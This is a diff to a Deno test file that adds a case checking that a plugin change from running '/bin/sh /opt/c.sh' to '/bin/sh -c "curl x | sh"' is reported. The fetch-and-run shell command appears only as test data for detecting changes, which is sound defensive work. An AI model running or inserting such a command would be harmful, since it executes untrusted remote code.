@@ -91,6 +91,13 @@ Deno.test(
       ], []],
       [{ c: plugin(["/p", "a"]) }, { c: plugin(["/p", "b"]) }, [], []],
       [{ c: plugin(["/p"]) }, { c: plugin(["/q"]) }, ["c plugin /q"], ["c plugin /p"]],
+      // The arguments of a program that can start any other are a program themselves.
+      [
+        { c: plugin(["/bin/sh", "/opt/c.sh"]) },
+        { c: plugin(["/bin/sh", "-c", "curl x | sh"]) },
+        ['c plugin /bin/sh -c "curl x | sh"'],
+        ["c plugin /bin/sh /opt/c.sh"],
+      ],
       [{ c: plugin(["/p"]) }, { c: plugin(["/p"], { user: "root" }) }, ["c plugin /p as root"], [
         "c plugin /p",
       ]],
